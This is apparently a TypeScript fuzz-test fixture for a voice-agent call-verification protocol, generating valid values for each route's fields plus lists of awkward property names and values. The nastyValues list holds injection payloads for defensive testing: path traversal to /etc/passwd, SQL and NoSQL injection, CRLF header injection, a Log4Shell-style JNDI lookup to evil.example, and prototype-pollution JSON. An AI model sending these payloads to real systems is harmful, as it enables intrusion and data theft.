import { limits } from '@callseal/protocol/limits';
import { type Route, routes } from '@callseal/protocol/routes';
import { relayId } from '../relay-operation.js';
import { callSid, conferenceSid, taskSid } from '../twilio-double.js';
import { marks } from './marks.js';

interface Field {
  readonly name: string;
  /** Values that the route's own schema accepts. */
  readonly valid: readonly unknown[];
  readonly optional: boolean;
}

/** A row of the route table with what may be written into its body. */
export interface FuzzedRoute {
  readonly name: string;
  readonly route: Route;
  readonly fields: readonly Field[];
}

interface Parser {
  safeParse(value: unknown): { readonly success: boolean };
}

/** An agent of the voice-agent platform that may begin conversations. */
export const agentId = 'agent_0123456789';

/** Of these, every field of every route accepts at least one; a route whose field does not makes the table test fail. */
const pool: readonly unknown[] = [
  marks.requestedNumber,
  marks.credential,
  callSid,
  taskSid,
  conferenceSid,
  'agreed',
  'refused',
  'withdrawn',
  'en',
  'es-ES',
  '2026-11-22T10:00:00.000Z',
  'spoken-to-agent',
  'register',
  'verify',
  'match',
  'mismatch',
  'spoof',
  'inconclusive',
  'unavailable',
  1234,
  '1234',
  0,
  true,
  'v1',
  relayId,
  'stream-started',
  'stream-error',
  'task.wrapup',
  'transfer',
  'document-seen',
  { amount: '100.00', payee: marks.payee },
  marks.code,
  [{ id: 'first-school', answer: marks.answer }],
  marks.grant,
  'sms',
  'agent',
  'keypad',
  'link',
  `WK${'6'.repeat(32)}`,
  `MZ${'7'.repeat(32)}`,
  // of the range that the United Kingdom keeps for drama: the call's, and nobody's secret
  '+447700900123',
  agentId,
  'conv_0123456789abcdef',
  'transactions.read',
  '123456',
  'sms',
  'ticket',
  'post_call_transcription',
  { conversation_id: 'conv_0123456789abcdef' },
  [{ id: 'q1', answer: 'an answer' }],
];

/** Ids name a kind by their first letters; a value of another kind is well-formed for the schema, and refused by the handler. */
const kinds: Readonly<Record<string, RegExp>> = {
  callsid: /^CA/,
  tasksid: /^WT/,
  conferencesid: /^CF/,
  streamsid: /^MZ/,
  workersid: /^WK/,
  streamevent: /^stream-/,
  eventtype: /^task\./,
  action: /^transfer$/,
  statement: /^document-seen$/,
  code: /^\d{10}$/,
  grant: /^marked-grant/,
  call_sid: /^CA/,
  agent_id: /^agent_/,
  caller_id: /^\+44/,
  called_number: /^\+44/,
  conversation_id: /^conv_/,
  auth_ticket: /^ticket$/,
  type: /^post_call_/,
};

/** Where a page sends what is secret; in any other field it would be the page's own fault that it is told again. */
const marked: Readonly<Record<string, true>> = { subject: true, credential: true, code: true, grant: true };
const secrets: readonly unknown[] = [marks.requestedNumber, marks.credential, marks.code, marks.grant];
const isMarked = (value: unknown): boolean => secrets.includes(value);

function fieldsOf(schema: unknown): readonly Field[] {
  const shape =
    (schema as { readonly _zod?: { readonly def?: { readonly shape?: Readonly<Record<string, Parser>> } } })._zod?.def?.shape ?? {};
  return Object.entries(shape).map(([name, parser]) => {
    const accepted = pool.filter((value) => parser.safeParse(value).success && (marked[name] ?? !isMarked(value)));
    const kind = kinds[name.toLowerCase()];
    const fitting = kind === undefined ? accepted : accepted.filter((value) => typeof value === 'string' && kind.test(value));
    return { name, valid: fitting.length > 0 ? fitting : accepted, optional: parser.safeParse(undefined).success };
  });
}

/** Every route of the protocol's table. Walked, not listed: a new route is fuzzed without being named here. */
export const fuzzedRoutes: readonly FuzzedRoute[] = Object.entries<Route>(routes).map(([name, route]) => ({
  name,
  route,
  fields: fieldsOf(route.request),
}));

/** Names that programs have stumbled over. */
export const nastyNames = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'Token',
  'url',
  '',
  '__proto__[x]',
  'a.b',
  '\u0000',
] as const;

/** Values that programs have stumbled over. */
export const nastyValues: readonly unknown[] = [
  null,
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfff',
  '\ufeff',
  '\u202e',
  '\r\nset-cookie: a=b',
  '../../../etc/passwd',
  '%2e%2e%2f',
  "' OR 1=1 --",
  '"/><Dial>',
  '${jndi:ldap://evil.example}',
  '__proto__',
  'undefined',
  'NaN',
  -1,
  1e308,
  -0,
  2 ** 60,
  [],
  {},
  [['a']],
  { $ne: null },
  { toString: 'x' },
  JSON.parse('{"__proto__":{"polluted":true}}'),
  JSON.parse('{"constructor":{"prototype":{"polluted":true}}}'),
  true,
  'a'.repeat(limits.subjectCharacters + 1),
  'https://evil.example/',
];
